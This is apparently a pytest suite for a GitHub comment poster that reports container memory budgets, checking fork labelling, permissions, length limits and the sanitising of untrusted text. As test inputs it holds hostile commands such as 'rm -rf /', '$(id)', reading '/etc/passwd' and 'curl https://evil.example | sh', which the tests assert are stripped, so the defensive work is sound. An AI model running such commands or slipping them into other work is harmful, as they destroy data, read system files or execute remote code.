"""What the poster writes: whom it vouches for, what GitHub forbids, words of strangers."""

from dataclasses import replace

import pytest
from markdown_it import MarkdownIt

from gate_runs import (
    BUDGETS,
    FORK,
    HERE,
    Open,
    Post,
    make_honest_images,
    make_honest_memory,
    open_scene,
    zipped,
)
from github.stand_in import StandIn
from onegig.errors import ArtifactError, ExitCode, GithubError, GithubPermissionError
from onegig.model.report import Failure
from onegig.model.service import ServiceState
from onegig.model.stack import HostAccess
from scenarios import HOSTILE


def test_a_branch_of_the_repository(measured: Open, tell: Post) -> None:
    scene = measured(head_repository=HERE)
    outcome = tell(scene.event())
    body = scene.only_body()
    assert body.startswith("<!-- onegig:default -->\n### ")
    assert "GO: 460 of 1,024 MB, 564 MB (55 %) to spare" in body
    assert "elf-reported" not in body
    assert scene.standing() == "success"
    assert "comment on #7 created: https://github.com/octo/stack/pull/7#" in outcome.lines[0]
    assert outcome.lines[1].startswith("status onegig: success, #7 into main: GO: 460 of 1,024 MB")
    assert body.endswith(outcome.summary)
    (status,) = scene.state.statuses
    assert status.url.endswith(f"/pull/7#issuecomment-{next(iter(scene.state.comments))}")


def test_a_fork_is_labelled_and_vouched_for_by_nobody(judged: Open) -> None:
    scene = judged()
    assert f"elf-reported:** measured by a job of `{FORK}`" in scene.only_body()
    assert scene.standing() == "pending"
    assert "self-reported: a maintainer confirms it" in scene.status()


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("onegig check --tier aws-t2-micro", "onegig check --tier aws-t2-micro"),
        ("onegig check --budgets a/b.yml --window 15.0", "onegig check --budgets a/b.yml"),
        ("onegig check; rm -rf /", "onegig check\n"),
        ("onegig check --tier $(id)", "onegig check\n"),
        ("onegig check --budgets /etc/passwd", "onegig check\n"),
        ("onegig check\nrm -rf /", "onegig check\n"),
    ],
)
def test_the_command_to_paste_is_one_of_ours(
    stand_in: StandIn, tell: Post, command: str, shown: str
) -> None:
    scene = open_scene(stand_in)
    scene.upload(reproduce=command)
    tell(scene.event())
    assert shown in scene.only_body()
    assert "rm -rf" not in scene.only_body()


def test_nothing_is_asked_that_could_run_or_change_code(stand_in: StandIn, judged: Open) -> None:
    scene = judged()
    writes = [item for item in stand_in.asked() if not item.startswith("GET ")]
    assert writes == [
        f"POST /repos/octo/stack/issues/{scene.pull.number}/comments",
        f"POST /repos/octo/stack/statuses/{scene.run.head_sha}",
    ]


SOCKET = HostAccess(service="traefik", reason="mounts /var/run/docker.sock")
ALLOWED = f"{BUDGETS}allow_host_access: [traefik]\n"


@pytest.mark.security
def test_services_that_can_reach_the_runner_are_not_vouched_for(
    stand_in: StandIn, tell: Post
) -> None:
    """A pull request's own budgets.yml can't allow it."""
    scene = open_scene(stand_in, head_repository=HERE, files={"budgets.yml": ALLOWED})
    scene.upload(host_access=(SOCKET,))
    tell(scene.event())
    assert "traefik (mounts /var/run/docker.sock) can access the machine" in scene.only_body()
    assert scene.status().startswith("pending: ")


def test_the_base_branch_may_allow_them(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in, head_repository=HERE, before={"budgets.yml": ALLOWED})
    scene.upload(host_access=(SOCKET,))
    tell(scene.event())
    assert "Not vouched for" not in scene.only_body()
    assert scene.status().startswith("success: ")


READ = {"actions": "read", "contents": "read"}


def test_a_locked_conversation_still_has_its_status(measured: Open, tell: Post) -> None:
    scene = measured()
    scene.pull.locked = True
    outcome = tell(scene.event())
    assert "no comment: the conversation of #7 is locked" in outcome.lines[0]
    assert scene.standing() == "pending"


@pytest.mark.security
@pytest.mark.parametrize(
    ("may_write", "lacking", "comments", "state"),
    [
        ("statuses", ["pull-requests"], 0, "pending"),
        ("pull_requests", ["statuses"], 1, "none"),
        ("", ["pull-requests", "statuses"], 0, "none"),
    ],
)
def test_without_a_permission_the_rest_is_done_and_the_yaml_told(
    measured: Open, tell: Post, may_write: str, lacking: list[str], comments: int, state: str
) -> None:
    scene = measured()
    read = {**READ, "pull_requests": "read", "statuses": "read"}
    scene.state.permissions = {**read, **({may_write: "write"} if may_write else {})}
    with pytest.raises(GithubPermissionError) as caught:
        tell(scene.event())
    assert all(f"{name}: write" in caught.value.advice for name in lacking)
    assert caught.value.exit_code is ExitCode.CONFIG
    assert (len(scene.bodies()), scene.standing()) == (comments, state)


def test_refused_numbers_without_permission_for_the_status_tell_both(
    stand_in: StandIn, tell: Post
) -> None:
    scene = open_scene(stand_in)
    scene.upload(b"no zip")
    scene.state.permissions = {**READ, "pull_requests": "write"}
    with pytest.raises(ArtifactError, match="refused") as caught:
        tell(scene.event())
    assert "nor was it written: " in caught.value.detail
    assert "statuses: write" in caught.value.advice


def test_github_in_trouble_is_an_error_not_a_verdict(
    stand_in: StandIn, measured: Open, tell: Post
) -> None:
    scene = measured(head_repository=HERE)
    stand_in.fail("GET", "/compare/", status=500, times=99)
    with pytest.raises(GithubError):
        tell(scene.event())
    assert (scene.bodies(), scene.standing()) == ([], "error")


def test_a_comment_that_github_finds_too_long(measured: Open, tell: Post) -> None:
    scene = measured()
    scene.state.most_comment = 2000
    outcome = tell(scene.event())
    assert "GO: 460 of 1,024 MB" in scene.only_body()
    assert "_The rest is too long for a comment: [the run](https:" in scene.only_body()
    assert len(scene.only_body()) < 2000 < len(outcome.summary)


def test_two_thousand_services_fit_a_comment(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    memory = make_honest_memory()
    one = memory.services[0]
    services = tuple(replace(one, name=f"{'worker' * 20}-{i}") for i in range(2000))
    box = replace(memory.box, cost_bytes=2**40, total_rss_bytes=2**40, total_pss_bytes=2**40)
    many = replace(memory, services=services, samples=(), box=box)
    scene.upload(zipped(scene.claim(), memory=many))
    tell(scene.event())
    assert len(scene.only_body()) <= 65_536
    assert "NO-GO" in scene.only_body()


def outside_code(body: str) -> str:
    """What GitHub reads mentions, links and HTML in."""
    tokens = MarkdownIt("commonmark").enable("table").parse(body)
    inline = [child for token in tokens for child in token.children or ()]
    code = ("fence", "code_block", "code_inline")
    return "\n".join(
        each.content for each in (*tokens, *inline) if each.type not in (*code, "inline")
    )


def test_names_of_strangers_ping_and_mark_up_nothing(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    memory = make_honest_memory()
    services = tuple(
        replace(service, name=f"{text} {i}", log_tail=text)
        for i, (service, text) in enumerate(zip(memory.services, HOSTILE * 2, strict=False))
    )
    images = make_honest_images()
    failure = Failure(
        message=HOSTILE[2], command=HOSTILE[3], advice=HOSTILE[4], detail=HOSTILE[3], exit_code=3
    )
    claim = scene.claim(reproduce="curl https://evil.example | sh # onegig check", failure=failure)
    scene.upload(zipped(claim, images, replace(memory, services=services, stack=HOSTILE[0])))
    tell(scene.event())
    body = scene.only_body()
    for text in ("\x1b", "\u202e", "evil.example | sh"):
        assert text not in body
    for text in ("@everyone", "<script", "<!-- -->"):
        assert text not in outside_code(body)
    assert "onegig check\n" in body


def test_endless_words_of_strangers_fit(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    endless = "@everyone *[`" * 2500
    failure = Failure(
        message=endless,
        command=endless,
        advice=endless,
        detail="\n".join([endless[:600]] * 100),
        place=endless,
        exit_code=3,
    )
    memory = make_honest_memory()
    services = tuple(
        replace(service, state=ServiceState.CRASHED, log_tail=endless, criticality=endless)
        for service in memory.services
    )
    memory = replace(memory, services=services, stack=endless, incomplete=(endless,) * 5)
    scene.upload(zipped(scene.claim(failure=failure, onegig_version=endless), memory=memory))
    tell(scene.event())
    assert len(scene.only_body()) <= 65_536
    assert "@everyone" not in outside_code(scene.only_body())
    assert len(scene.status()) < 65_535
    assert "@everyone" not in outside_code(scene.status().partition("\n")[2])
